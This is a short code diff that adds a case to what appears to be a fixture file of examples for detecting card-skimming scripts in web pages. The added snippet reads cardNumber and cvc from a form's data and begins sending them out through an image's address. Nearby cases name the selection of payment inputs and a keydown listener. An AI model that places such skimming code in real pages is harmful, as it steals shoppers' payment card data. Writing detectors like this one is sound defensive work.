@@ -23,6 +23,12 @@ export const examples: CommitExamples = {
       commit: aPage("document.querySelectorAll('#payment input')", [FIELDS]),
     },
     {
+      name: "fields of a form that the page hands over, in an image's address",
+      commit: aPage("const { cardNumber, cvc } = Object.fromEntries(new FormData(form)); new Image().src = to", [
+        FIELDS,
+      ]),
+    },
+    {
       name: "keys",
       commit: aPage("document.addEventListener('keydown', take)", [
         { ...FIELDS, does: "fetch", with: "fetch", traits: [] },
